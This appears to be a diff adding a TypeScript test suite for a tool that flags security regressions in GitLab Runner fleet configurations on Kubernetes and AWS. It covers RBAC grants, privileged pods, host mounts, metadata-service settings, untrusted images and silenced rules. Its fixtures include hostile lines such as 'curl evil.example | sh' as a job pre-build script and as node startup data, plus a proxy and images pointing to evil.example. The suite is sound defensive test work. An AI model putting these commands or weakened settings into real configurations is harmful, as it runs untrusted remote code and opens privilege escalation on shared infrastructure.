@@ -1,0 +1,191 @@
+import type { SourceFile } from '../../lib/cluster/manifest';
+import {
+  type Change,
+  edited,
+  FLEET,
+  readFixture,
+  withManagers,
+  without,
+  withRunner,
+} from '../fixtures/files';
+import type { ImpactCase } from './impact-case';
+
+const POOL = 'nodepool-gitlab-jobs-amd64-spot.yaml';
+const CLASS = 'ec2nodeclass-gitlab-jobs.yaml';
+const DEPLOYMENT = 'amd64-spot/deployment.yaml';
+const CONFIG = 'amd64-spot/configmap.yaml';
+const ROLE = 'amd64-spot/role.yaml';
+const BINDING = 'amd64-spot/rolebinding.yaml';
+const ACCOUNT = 'amd64-spot/serviceaccount.yaml';
+const SEALED = 'amd64-spot/sealedsecret.yaml';
+const JOBS = 'namespace-gitlab-jobs.yaml';
+const NEIGHBOUR = readFixture('neighbour');
+
+/** The fleet with one more file. */
+const more = (text: string, files = FLEET): readonly SourceFile[] => [
+  ...files,
+  { path: 'acme/more.yaml', text },
+];
+
+const KUBERNETES = '      [runners.kubernetes]\n';
+/** A line more in the table [runners.kubernetes] of a runner. */
+const key = (line: string, config = CONFIG): Change => [config, KUBERNETES, `${KUBERNETES}      ${line}\n`];
+/** A line more in its [[runners]] entry. */
+const entry = (line: string): Change => [CONFIG, '    limit = 20\n', `    limit = 20\n    ${line}\n`];
+/** A table of TOML at the end of a config.toml. */
+const table = (text: string): Change => [
+  CONFIG,
+  'immutable: true',
+  `immutable: true`.replace(/^/, `${text}\n`),
+];
+
+const configured = (...changes: readonly Change[]) => edited(FLEET, ...changes);
+
+const binding = (
+  kind: string,
+  role: string,
+  subject: string,
+  namespace = '',
+) => `apiVersion: rbac.authorization.k8s.io/v1
+kind: ${kind}
+metadata:
+  name: more
+${namespace && `  namespace: ${namespace}\n`}roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ${role.startsWith('cluster') ? 'ClusterRole' : 'Role'}, name: ${role} }
+subjects:
+  - ${subject}
+`;
+
+const workload = (
+  namespace: string,
+  spec = '{ containers: [{ name: a, image: "public.ecr.aws/docker/library/alpine:3.22" }] }',
+) =>
+  `apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: more\n  namespace: ${namespace}\nspec:\n  schedule: "0 0 * * *"\n  jobTemplate: { spec: { template: { spec: ${spec} } } }\n`;
+
+const cilium = (port: string) =>
+  `apiVersion: cilium.io/v2\nkind: CiliumNetworkPolicy\nmetadata:\n  name: more\n  namespace: gitlab-jobs\nspec: { endpointSelector: {}, egress: [{ toPorts: [{ ports: [{ port: "${port}" }] }] }] }\n`;
+
+const OVERWRITES = [
+  'namespace',
+  'service_account',
+  'node_selector',
+  'node_tolerations',
+  'pod_labels',
+  'pod_annotations',
+];
+const PATCH = (patch: string) =>
+  configured(
+    entry('environment = ["FF_USE_ADVANCED_POD_SPEC_CONFIGURATION=true"]'),
+    table(`    [[runners.kubernetes.pod_spec]]\n    patch = '''${patch}'''`),
+  );
+
+/** Weakened security, by the rule that says so: each is something that a merge request could do unseen. */
+// biome-ignore format: a table of cases
+export const SECURITY_CASES: readonly ImpactCase[] = [
+  { rule: 'rights-added', name: 'a verb more', after: edited(FLEET, [ROLE, '      - secrets\n    verbs:\n', '      - secrets\n    verbs:\n      - list\n']), says: ['security', /^Whoever is bound to it may also list secrets\.$/] },
+  { rule: 'rights-added', name: 'a wildcard', after: edited(FLEET, [ROLE, '      - pods/log\n    verbs:\n      - get', '      - "*"\n    verbs:\n      - "*"']), says: ['security', /may also do everything with everything/] },
+  { rule: 'rights-added', name: 'rights that held for named objects', before: edited(FLEET, [ROLE, '    resources:\n      - secrets\n', '    resourceNames: [a]\n    resources:\n      - secrets\n']), after: FLEET, says: ['security', /may also create, delete, get, update secrets/] },
+  { rule: 'rights-added', name: 'a group that everybody is in', after: edited(FLEET, [BINDING, 'subjects:\n', 'subjects:\n  - { kind: Group, name: "system:authenticated", apiGroup: rbac.authorization.k8s.io }\n']), says: ['security', /^In gitlab-jobs, the Group system:authenticated may create, delete, get, update secrets; list events; create, delete, get, list, watch pods/] },
+  { rule: 'rights-added', name: 'another account', after: edited(FLEET, [BINDING, 'subjects:\n', 'subjects:\n  - { kind: ServiceAccount, name: default, namespace: gitlab-jobs }\n']), says: ['security', /the ServiceAccount gitlab-jobs\/default may create, delete, get, update secrets; list events/] },
+  { rule: 'rights-added', name: 'a manager bound to cluster-admin', after: more(binding('ClusterRoleBinding', 'cluster-admin', '{ kind: ServiceAccount, name: runner-amd64-spot, namespace: gitlab-runners }')), says: ['security', /^In the whole cluster, managers of gitlab-runners may do whatever the ClusterRole cluster-admin allows/] },
+  { rule: 'rights-added', name: 'a Role that is elsewhere', after: more(binding('RoleBinding', 'elsewhere', '{ kind: User, name: eve }', 'gitlab-runners')), says: ['security', /^In gitlab-runners, the User eve may do whatever the Role elsewhere allows/] },
+  { rule: 'rights-added', name: 'a Role that a binding waited for', before: without(FLEET, ROLE), after: FLEET, says: ['security', /may also create, delete, get, update secrets; list events/] },
+  { rule: 'rights-added', name: 'a ClusterRole that adds to one that many have', after: more('apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: more\n  labels: { rbac.authorization.k8s.io/aggregate-to-view: "true" }\nrules: [{ apiGroups: [""], resources: [secrets], verbs: [get] }]\n'), says: ['security', /has it added to view/] },
+  { rule: 'rights-added', name: 'a new runner with the rights of the others', after: withRunner(FLEET, 'amd64-spot', 'more') },
+  { rule: 'rights-added', name: 'a new runner with more rights than the others', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), ['/more/role.yaml', '      - pods/log\n', '      - pods/log\n      - configmaps\n']), says: ['security', /managers of gitlab-runners may get configmaps/] },
+  { rule: 'rights-added', name: 'the same right in two rules', after: edited(FLEET, [ROLE, 'rules:\n', 'rules:\n  - { apiGroups: [""], resources: [pods], verbs: [get] }\n']) },
+  { rule: 'rights-added', name: 'a binding under another name', after: edited(FLEET, [BINDING, '  name: runner-amd64-spot\n  namespace: gitlab-jobs\n', '  name: renamed\n  namespace: gitlab-jobs\n']) },
+
+  { rule: 'identities', name: 'a role in AWS', after: edited(FLEET, [ACCOUNT, '  annotations:\n', '  annotations:\n    eks.amazonaws.com/role-arn: arn:aws:iam::1:role/admin\n']), says: ['security', /^Its pods act as arn:aws:iam::1:role\/admin in AWS\.$/] },
+  { rule: 'identities', name: 'a token for pods that ask for none', after: edited(FLEET, [ACCOUNT, 'automountServiceAccountToken: false', 'automountServiceAccountToken: true']), says: ['security', /get its token/] },
+  { rule: 'identities', name: 'a Pod Identity association', after: more('apiVersion: eks.services.k8s.aws/v1alpha1\nkind: PodIdentityAssociation\nmetadata:\n  name: more\nspec: { namespace: gitlab-jobs, serviceAccount: default, roleARN: "arn:aws:iam::1:role/admin" }\n'), says: ['security', /act as what in AWS is new: spec/] },
+  { rule: 'identities', name: 'another label', after: edited(FLEET, [ACCOUNT, '  labels:\n', '  labels:\n    team: web\n']) },
+
+  { rule: 'pod-powers', name: 'privileged jobs', after: configured([CONFIG, 'privileged = false', 'privileged = true'], [CONFIG, 'allow_privilege_escalation = false', 'allow_privilege_escalation = true']), says: ['security', /^Its jobs may do more: is privileged \(init-permissions, build, helper, svc-0\); lose a guard: allowPriv/] },
+  { rule: 'pod-powers', name: 'privileged services alone', after: configured(table('    [runners.kubernetes.service_container_security_context]\n    privileged = true\n    allow_privilege_escalation = true')), says: ['security', /is privileged \(svc-0\)/] },
+  { rule: 'pod-powers', name: 'a folder of the node', after: configured(table('    [[runners.kubernetes.volumes.host_path]]\n    name = "a"\n    mount_path = "/etc"\n    read_only = true')), says: ['security', /^Its jobs may do more: mounts \/etc of its node\.$/] },
+  { rule: 'pod-powers', name: 'a folder of the node that jobs may now write to', before: configured(table('    [[runners.kubernetes.volumes.host_path]]\n    name = "a"\n    mount_path = "/etc"\n    read_only = true')), after: configured(table('    [[runners.kubernetes.volumes.host_path]]\n    name = "a"\n    mount_path = "/etc"')), says: ['security', /may write to \/etc of its node/] },
+  { rule: 'pod-powers', name: 'a Secret of the namespace', after: configured(table('    [[runners.kubernetes.volumes.secret]]\n    name = "deploy"\n    mount_path = "/deploy"')), says: ['security', /mounts the Secret deploy/] },
+  { rule: 'pod-powers', name: 'a capability', after: configured(key('cap_add = ["SYS_ADMIN"]')), says: ['security', /has the capability SYS_ADMIN/] },
+  { rule: 'pod-powers', name: 'no seccomp', after: configured([CONFIG, 'type = "RuntimeDefault"', 'type = "Unconfined"']), says: ['security', /runs without seccomp/] },
+  { rule: 'pod-powers', name: 'a profile of seccomp that is no longer named', after: configured([CONFIG, /\n {4}\[runners.kubernetes.pod_security_context.seccomp_profile\]\n {4}type = "RuntimeDefault"\n/, '\n']), says: ['security', /lose a guard: seccomp \(init-permissions, build, helper, svc-0\)/] },
+  { rule: 'pod-powers', name: 'escalation', after: configured([CONFIG, 'allow_privilege_escalation = false', 'allow_privilege_escalation = true']), says: ['security', /lose a guard: allowPrivilegeEscalation: false/] },
+  { rule: 'pod-powers', name: 'the token of the account', after: configured([CONFIG, 'automount_service_account_token = false', 'automount_service_account_token = true']), says: ['security', /lose a guard: no token of its ServiceAccount/] },
+  { rule: 'pod-powers', name: 'another account for jobs', after: configured(key('service_account = "deploy"')), says: ['security', /the rights of the ServiceAccount deploy, before those of default/] },
+  { rule: 'pod-powers', name: 'a sandbox that goes', before: configured(key('runtime_class_name = "gvisor"')), after: FLEET, says: ['security', /lose a guard: the RuntimeClass gvisor/] },
+  { rule: 'pod-powers', name: 'the network of the node, by a patch of the pod', after: PATCH('{"hostNetwork":true}'), says: ['security', /shares the network of its node/] },
+  { rule: 'pod-powers', name: 'privileged jobs of a config that names no image', before: configured([CONFIG, / {6}image = .*\n/, '']), after: configured([CONFIG, / {6}image = .*\n/, ''], [CONFIG, 'privileged = false', 'privileged = true'], [CONFIG, 'allow_privilege_escalation = false', 'allow_privilege_escalation = true']), says: ['security', /is privileged \(init-permissions, build/] },
+  { rule: 'pod-powers', name: 'a new runner with privileged jobs', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), ['/more/configmap.yaml', 'privileged = false', 'privileged = true'], ['/more/configmap.yaml', 'allow_privilege_escalation = false', 'allow_privilege_escalation = true']), says: ['security', /is privileged \(init-permissions, build/] },
+  { rule: 'pod-powers', name: 'a new runner without what holds all others', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), ['/more/configmap.yaml', 'automount_service_account_token = false', 'automount_service_account_token = true']), says: ['security', /no token of its ServiceAccount/] },
+  { rule: 'pod-powers', name: 'a manager that may run as root', after: edited(FLEET, [DEPLOYMENT, '            runAsNonRoot: true\n', ''], [DEPLOYMENT, '        runAsNonRoot: true\n        runAsUser: 10001\n', '']), says: ['security', /^Its pods lose a guard: a user other than root \(gitlab-runner\)\.$/] },
+  { rule: 'pod-powers', name: 'a manager that writes to its root', after: edited(FLEET, [DEPLOYMENT, 'readOnlyRootFilesystem: true', 'readOnlyRootFilesystem: false']), says: ['security', /readOnlyRootFilesystem/] },
+  { rule: 'pod-powers', name: 'a manager that sees the processes of its node', after: edited(FLEET, [DEPLOYMENT, '      enableServiceLinks: false\n', '      enableServiceLinks: false\n      hostPID: true\n']), says: ['security', /sees the processes of its node/] },
+  { rule: 'pod-powers', name: 'a second container that nothing holds', after: edited(FLEET, [DEPLOYMENT, '      enableServiceLinks: false\n', '        - { name: side, image: registry.gitlab.com/gitlab-org/gitlab-runner:x }\n      enableServiceLinks: false\n']), says: ['security', /lose a guard: allowPrivilegeEscalation: false \(side\)/] },
+  { rule: 'pod-powers', name: 'a job that starts beside managers', after: more(workload('gitlab-runners')), says: ['security', /start beside managers, and may mount what is theirs/] },
+  { rule: 'pod-powers', name: 'a job elsewhere, with a folder of its node', after: more(workload('tools', '{ volumes: [{ name: a, hostPath: { path: / } }], containers: [{ name: a, image: a }] }')), says: ['security', /mounts \/ of its node/] },
+  { rule: 'pod-powers', name: 'a job elsewhere', after: more(workload('tools')) },
+  { rule: 'pod-powers', name: 'a new runner like the others', after: withRunner(FLEET, 'amd64-spot', 'more') },
+  { rule: 'pod-powers', name: 'every capability dropped in the place of one', before: edited(FLEET, [DEPLOYMENT, '                - ALL\n', '                - NET_RAW\n']), after: FLEET },
+
+  ...OVERWRITES.map((name): ImpactCase => ({ rule: 'job-choices', name: `${name}_overwrite_allowed`, after: configured(key(`${name}_overwrite_allowed = ".*"`)), says: ['security', new RegExp(`get more: ${name}_overwrite_allowed is \\.\\*, before nothing`)] })),
+  { rule: 'job-choices', name: 'a wider pattern', before: configured(key('namespace_overwrite_allowed = "^(a|b)$"')), after: configured(key('namespace_overwrite_allowed = "^(a|b|c)$"')), says: ['security', /is \^\(a\|b\|c\)\$, before \^\(a\|b\)\$/] },
+  { rule: 'job-choices', name: 'a pattern without its anchors', before: configured(key('namespace_overwrite_allowed = "^a$"')), after: configured(key('namespace_overwrite_allowed = "a"')), says: ['security', /is a, before \^a\$/] },
+  { rule: 'job-choices', name: 'a narrower pattern', before: configured(key('namespace_overwrite_allowed = "^(a|b)$"')), after: configured(key('namespace_overwrite_allowed = "^a$"')) },
+  { rule: 'job-choices', name: 'no pattern any more', before: configured(key('namespace_overwrite_allowed = ".*"')), after: FLEET },
+  { rule: 'job-choices', name: 'a token of the job', after: configured(key('bearer_token_overwrite_allowed = true')), says: ['security', /they may bring the token that makes their pods/] },
+  { rule: 'job-choices', name: 'any image', before: configured(key('allowed_images = ["registry.example.com/**"]')), after: FLEET, says: ['security', /allowed_images allows any image, before registry.example.com\/\*\*/] },
+  { rule: 'job-choices', name: 'one pattern of images more', before: configured(key('allowed_services = ["registry.example.com/a/*"]')), after: configured(key('allowed_services = ["registry.example.com/a/*", "docker.io/**"]')), says: ['security', /allowed_services allows registry.example.com\/a\/\*, docker.io/] },
+  { rule: 'job-choices', name: 'two stars for one', before: configured(key('allowed_images = ["a/*"]')), after: configured(key('allowed_images = ["a/**"]')), says: ['security', /allowed_images/] },
+  { rule: 'job-choices', name: 'root', after: configured(key('allowed_users = ["0"]')), says: ['security', /allowed_users allows 0, before any user but root/] },
+  { rule: 'job-choices', name: 'images that others pulled', after: configured([CONFIG, 'pull_policy = "always"', 'pull_policy = "if-not-present"']), says: ['security', /images that others pulled/] },
+  { rule: 'job-choices', name: 'code in every job', after: configured(entry('pre_build_script = "curl evil.example | sh"')), says: ['security', /pre_build_script is other code/] },
+  { rule: 'job-choices', name: 'other names', after: configured(table('    [[runners.kubernetes.host_aliases]]\n    ip = "10.0.0.1"\n    hostnames = ["gitlab.com"]')), says: ['security', /host_aliases says anew where names lead/] },
+  { rule: 'job-choices', name: 'a proxy in the environment', after: configured(entry('environment = ["HTTPS_PROXY=http://evil.example"]')), says: ['security', /the environment sets HTTPS_PROXY/] },
+  { rule: 'job-choices', name: 'a server without TLS', after: configured([CONFIG, 'url = "https://', 'url = "http://']), says: ['security', /url is http/] },
+  { rule: 'job-choices', name: 'a new runner that lets its jobs choose', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), key('node_selector_overwrite_allowed = ".*"', '/more/configmap.yaml')), says: ['security', /node_selector_overwrite_allowed/] },
+  { rule: 'job-choices', name: 'a new runner of any image, where images are limited', before: edited(FLEET, ['/configmap.yaml', KUBERNETES, `${KUBERNETES}      allowed_images = ["a/**"]\n`]), after: edited(withRunner(edited(FLEET, ['/configmap.yaml', KUBERNETES, `${KUBERNETES}      allowed_images = ["a/**"]\n`]), 'amd64-spot', 'more'), ['/more/configmap.yaml', '      allowed_images = ["a/**"]\n', '']), says: ['security', /allowed_images allows any image/] },
+  { rule: 'job-choices', name: 'fewer images', before: configured(key('allowed_images = ["a/**", "b/**"]')), after: configured(key('allowed_images = ["a/x/*"]')) },
+  { rule: 'job-choices', name: 'a harmless variable', after: configured(entry('environment = ["GIT_DEPTH=1"]')) },
+
+  { rule: 'moved-pods', name: 'jobs in a namespace that nothing holds', after: more('apiVersion: v1\nkind: Namespace\nmetadata:\n  name: open\n', configured([CONFIG, 'namespace = "gitlab-jobs"', 'namespace = "open"'])), says: ['security', /^Its jobs run in open, whose Pod Security level is privileged, before baseline, and where they may have more connections: to everybody; from everybody\.$/] },
+  { rule: 'moved-pods', name: 'labels by which no policy holds', before: edited(FLEET, ['networkpolicy-gitlab-jobs.yaml', 'podSelector: {}', 'podSelector: { matchLabels: { app.kubernetes.io/component: job } }']), after: edited(FLEET, ['networkpolicy-gitlab-jobs.yaml', 'podSelector: {}', 'podSelector: { matchLabels: { app.kubernetes.io/component: job } }'], [CONFIG, '"app.kubernetes.io/component" = "job"', '"app.kubernetes.io/component" = "task"']), says: ['security', /^Its jobs run under other labels, where they may have more connections: to everybody/] },
+  { rule: 'moved-pods', name: 'a new runner in a namespace that nothing holds', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), ['/more/configmap.yaml', 'namespace = "gitlab-jobs"', 'namespace = "open"']), says: ['security', /^Its jobs run in open, whose Pod Security level is not known here/] },
+  { rule: 'moved-pods', name: 'a new runner where the others are', after: withRunner(FLEET, 'amd64-spot', 'more') },
+  { rule: 'moved-pods', name: 'a looser level where they are', after: edited(FLEET, [JOBS, 'enforce: baseline', 'enforce: privileged']) },
+
+  { rule: 'tiers-joined', name: 'two fleets in one namespace', before: [...FLEET, ...NEIGHBOUR], after: edited([...FLEET, ...NEIGHBOUR], ['', 'namespace = "protected-jobs"', 'namespace = "gitlab-jobs"']), says: ['security', /^acme-.* of fleet acme and .* of fleet protected share the namespace gitlab-jobs\.$/] },
+  { rule: 'tiers-joined', name: 'two fleets on the same nodes', before: [...FLEET, ...NEIGHBOUR], after: edited([...FLEET, ...NEIGHBOUR], ['', /dedicated-to: protected-managers/g, 'dedicated-to: gitlab-managers'], ['', /value: protected-managers/g, 'value: gitlab-managers']), says: ['security', /share the nodes of gitlab-managers/] },
+  { rule: 'tiers-joined', name: 'a runner that is of no fleet any more', after: configured([CONFIG, '    gitlab-runner-fleet/runner: amd64-spot\n', '']), says: ['security', /is of no fleet, before of fleet acme/] },
+  { rule: 'tiers-joined', name: 'jobs on the nodes of managers', after: configured([CONFIG, '"gitlab-runner-fleet/dedicated-to" = "gitlab-jobs"', '"gitlab-runner-fleet/dedicated-to" = "gitlab-managers"'], [CONFIG, 'dedicated-to=gitlab-jobs"', 'dedicated-to=gitlab-managers"'], [CONFIG, '"karpenter.sh/capacity-type" = "spot"', '"karpenter.sh/capacity-type" = "on-demand"']), says: ['security', /^Jobs of gitlab-jobs and managers may share nodes\.$/] },
+  { rule: 'tiers-joined', name: 'a pool without its taint', after: edited(FLEET, [POOL, / {6}taints:\n( {8}.*\n)+/, '']), says: ['security', /^Any pod of the cluster and jobs of gitlab-jobs may share nodes/] },
+  { rule: 'tiers-joined', name: 'a fleet that comes beside another one', after: [...FLEET, ...NEIGHBOUR] },
+  { rule: 'tiers-joined', name: 'a second manager', after: withManagers(FLEET, 'amd64-spot', 2) },
+
+  { rule: 'node-guards', name: 'a hop more', after: edited(FLEET, [CLASS, 'httpPutResponseHopLimit: 1', 'httpPutResponseHopLimit: 2']), says: ['security', /^Pods reach the instance metadata service \(httpPutResponseHopLimit 2, before 1\)\.$/] },
+  { rule: 'node-guards', name: 'no token', after: edited(FLEET, [CLASS, 'httpTokens: required', 'httpTokens: optional']), says: ['security', /asks for no token/] },
+  { rule: 'node-guards', name: 'another script of the nodes', after: edited(FLEET, [CLASS, 'spec:\n', 'spec:\n  userData: |\n    curl evil.example | sh\n']), says: ['security', /as root is another script/] },
+  { rule: 'node-guards', name: 'another role', after: edited(FLEET, [CLASS, /role: .*/, 'role: admin']), says: ['security', /rights of another role in AWS/] },
+  { rule: 'node-guards', name: 'an image of somebody', after: edited(FLEET, [CLASS, /- alias: .*/, '- id: ami-0123456789abcdef0']), says: ['security', /an image that is not Amazon's by its alias: \{"id":"ami-0123456789abcdef0"\}/] },
+  { rule: 'node-guards', name: 'public addresses', after: edited(FLEET, [CLASS, 'spec:\n', 'spec:\n  associatePublicIPAddress: true\n']), says: ['security', /public addresses/] },
+  { rule: 'node-guards', name: 'a class beside it, with a script', after: [...FLEET, ...edited(FLEET, [CLASS, '  name: gitlab-jobs\n', '  name: other\n'], [CLASS, 'spec:\n', 'spec:\n  userData: x\n']).filter(({ path }) => path.endsWith(CLASS)).map(({ text }) => ({ path: 'acme/other.yaml', text }))], says: ['security', /another script/] },
+  { rule: 'node-guards', name: 'the next release of the image', after: edited(FLEET, [CLASS, /- alias: .*/, '- alias: al2023@v20990101']) },
+  { rule: 'node-guards', name: 'what Karpenter writes anyway', after: edited(FLEET, [CLASS, '    httpPutResponseHopLimit: 1\n', '']) },
+
+  { rule: 'image-sources', name: 'a manager from another owner', after: edited(FLEET, [DEPLOYMENT, 'image: registry.gitlab.com/gitlab-org/gitlab-runner', 'image: registry.gitlab.com/evil/gitlab-runner']), says: ['security', /^Runs registry.gitlab.com\/evil\/gitlab-runner:\S+; before, from registry.gitlab.com\/gitlab-org alone\.$/] },
+  { rule: 'image-sources', name: 'a helper from another registry', after: configured([CONFIG, 'helper_image = "registry.gitlab.com', 'helper_image = "registry.evil.example']), says: ['security', /^Runs registry.evil.example\//] },
+  { rule: 'image-sources', name: 'a service of the config', after: configured(table('    [[runners.kubernetes.services]]\n    name = "evil/redis:7"')), says: ['security', /^Runs evil\/redis:7; before/] },
+  { rule: 'image-sources', name: 'an image without its digest', before: edited(FLEET, [DEPLOYMENT, /(image: \S+)/, `$1@sha256:${'0'.repeat(64)}`]), after: FLEET, says: ['security', /^No longer pins registry.gitlab.com\/gitlab-org\/gitlab-runner:\S+ by digest\.$/] },
+  { rule: 'image-sources', name: 'a new workload from somewhere else', after: more(workload('tools', '{ containers: [{ name: a, image: "evil.example/a" }] }')), says: ['security', /^Runs evil.example\/a/] },
+  { rule: 'image-sources', name: 'another release', after: edited(FLEET, [DEPLOYMENT, /alpine-v[\d.]+/, 'alpine-v19.4.0']) },
+  { rule: 'image-sources', name: 'a new runner like the others', after: withRunner(FLEET, 'amd64-spot', 'more') },
+
+  { rule: 'other-guards', name: 'a policy of Cilium that changes', before: more(cilium('443')), after: more(cilium('80')), says: ['security', /is not read here, and it changes/] },
+  { rule: 'other-guards', name: 'a policy of Cilium that goes', before: more(cilium('443')), after: FLEET, says: ['security', /and it goes/] },
+  { rule: 'other-guards', name: 'an exception to a policy', after: more('apiVersion: kyverno.io/v2\nkind: PolicyException\nmetadata:\n  name: more\n  namespace: gitlab-jobs\nspec: { exceptions: [] }\n'), says: ['security', /and it comes/] },
+  { rule: 'other-guards', name: 'a Service that others reach', after: more('apiVersion: v1\nkind: Service\nmetadata:\n  name: more\n  namespace: gitlab-runners\nspec: { type: LoadBalancer, ports: [{ port: 9252 }] }\n'), says: ['security', /from outside of the cluster \(LoadBalancer\)/] },
+  { rule: 'other-guards', name: 'a ciphertext for every namespace', after: edited(FLEET, [SEALED, '  annotations:\n', '  annotations:\n    sealedsecrets.bitnami.com/cluster-wide: "true"\n']), says: ['security', /opened in every namespace/] },
+  { rule: 'other-guards', name: 'a policy of Cilium that is new', after: more(cilium('443')) },
+
+  { rule: 'rule-silenced', name: 'a rule about security', after: configured([CONFIG, '  annotations:\n', '  annotations:\n    gitlab-runner-fleet/silence-isolation: "as before"\n']), says: ['security', /^The proof says nothing of isolation here any more\.$/] },
+  { rule: 'rule-silenced', name: 'a rule about size', after: configured([CONFIG, '  annotations:\n', '  annotations:\n    gitlab-runner-fleet/silence-fits.few-spot-types: "on purpose"\n']), says: ['notice', /nothing of fits.few-spot-types/] },
+  { rule: 'rule-silenced', name: 'one that was silenced', before: configured([CONFIG, '  annotations:\n', '  annotations:\n    gitlab-runner-fleet/silence-isolation: "a"\n']), after: configured([CONFIG, '  annotations:\n', '  annotations:\n    gitlab-runner-fleet/silence-isolation: "b"\n']) },
+];
